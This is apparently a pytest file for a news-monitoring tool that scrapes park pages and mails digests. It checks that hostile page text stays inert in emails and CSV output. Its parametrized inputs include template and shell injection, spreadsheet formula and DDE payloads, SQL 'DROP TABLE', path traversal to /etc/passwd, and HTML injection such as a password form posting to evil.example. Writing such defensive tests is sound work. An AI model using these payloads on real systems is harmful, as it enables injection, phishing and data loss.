"""What pages say stays text in a mail, whatever it looks like; and thousands of changes find their way."""

import csv
import time
from datetime import timedelta
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser

from monitor import digesting
from monitor.demo.loop import demo_settings
from monitor.demo.mailbox import Mailbox
from reports.message import build_letter
from reports.render import html_of, text_of
from storage.database import Store, articles, verify
from tests.builders import DAY_2, an_article, an_observation
from tests.conftest import Desk
from tests.test_digest import a_digest, an_edit, an_entry
from tests.test_mail import PARKS, answers, mailer, subscribed
from tests.tricksite import TrickSite, article, ok, path

FORMS = (
    "{{ 7 * 7 }} {% raw %} {# no #}",
    "%s %d %(name)s {0} {name!r} ${HOME} $(id)",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE articles; --",
    "../../../../etc/passwd",
    "<b>bold</b> & <script>alert(1)</script>",
    "&lt;b&gt; &amp;amp; &#60;",
)


@pytest.mark.parametrize("said", FORMS)
def test_a_headline_in_another_languages_form_is_shown_as_it_is(said: str) -> None:
    digest = a_digest(an_entry(headline=said, fields_after=an_article(headline=said, source=said[:40], body=(said,))))
    assert said in text_of(digest)
    [link] = [node for node in LexborHTMLParser(html_of(digest)).css("h3 a") if node.text() == said]
    assert link.attributes["href"] == "http://eastgate.example/1.html"
    letter = build_letter(digest, sender="p@example.org", recipient="r@example.org", token="t")
    subject = message_from_bytes(letter.content, _class=EmailMessage, policy=policy.default)["Subject"]
    assert subject == "Parkwatch: 1 new (2024-05-08)" or said not in subject


@pytest.mark.parametrize(
    "said",
    [
        "<script>alert(1)</script>",
        "<style>body { display: none }</style>",
        '<form action="http://evil.example"><input name="password"></form>',
        '<img src="http://evil.example/pixel.gif" width="1" height="1">',
        '<base href="http://evil.example/">',
        '<a href="javascript:alert(1)">here</a>',
        '<iframe src="http://evil.example/"></iframe>',
    ],
)
def test_markup_in_a_text_is_text_in_a_mail(said: str) -> None:
    tree = LexborHTMLParser(html_of(a_digest(an_entry(fields_after=an_article(body=(said,))))))
    assert tree.css("script, form, input, img, base, iframe") == []
    assert all(node.attributes["href"].startswith("http://eastgate.example") for node in tree.css("a[href]"))
    edited = LexborHTMLParser(html_of(a_digest(an_edit(1, "It was so.", f"It was so. {said}"))))
    assert edited.css("script, form, input, img, base, iframe") == []
    assert said in edited.body.text() if edited.body else False


def test_a_headline_of_a_megabyte_is_cut_before_it_reaches_a_mail() -> None:
    said = "x" * 1_000_000
    began = time.process_time()
    letter = build_letter(
        a_digest(an_entry(headline=said, fields_after=an_article(headline=said))),
        sender="p@example.org",
        recipient="r@example.org",
        token="t",
    )
    # A hundred times what it takes: the standard library alone needs minutes for such a header.
    assert time.process_time() - began < 10
    assert "x" * 300 + "…" in letter.html
    assert "x" * 301 not in letter.html


@pytest.mark.long
def test_formulas_are_none_in_a_table_that_scrapy_writes(desk: Desk, site: TrickSite) -> None:
    site.serve_stories(1)
    site.pages[path(1)] = ok(article(1)[2].decode().replace("Story 1 of the park", "=1+1 of the park"))
    site.park(desk.folder)
    desk.scrapy("crawl", "trick", "-O", "out.csv")
    with (desk.folder / "out.csv").open(encoding="utf-8", newline="") as file:
        [row] = csv.DictReader(file)
    assert row["headline"].lstrip("'") == "=1+1 of the park"
    assert row["headline"].startswith("'")


@pytest.mark.long
def test_more_changes_than_a_digest_takes_come_in_several_each_once(
    file_store: Store, tmp_path: Path, mailbox: Mailbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(digesting, "MOST_CHANGES", 400)
    subscribed(file_store)
    with file_store.writing() as session:
        for number in range(1000):
            fields = an_article(headline=f"Change number {number} of many")
            articles.record(session, an_observation(f"doc:{number}", fields=fields, seen_at=DAY_2))
    told: list[tuple[int, ...]] = []
    for day in range(1, 5):
        now = DAY_2 + timedelta(days=day)
        made = digesting.make_due(file_store, PARKS, demo_settings(tmp_path, mailbox.port), now)
        told += [one.digest.changes for one in made]
        answers(file_store, mailer(mailbox.port), now)
    assert [len(changes) for changes in told] == [400, 400, 200, 0]
    assert sorted(number for changes in told for number in changes) == list(range(1, 1001))
    with file_store.reading() as session:
        assert list(verify.problems(session)) == []
    for mail in mailbox.mails:
        part = message_from_bytes(mail, _class=EmailMessage, policy=policy.default).get_body(("html",))
        assert part is not None
        assert len(part.get_content().encode()) < 102_000
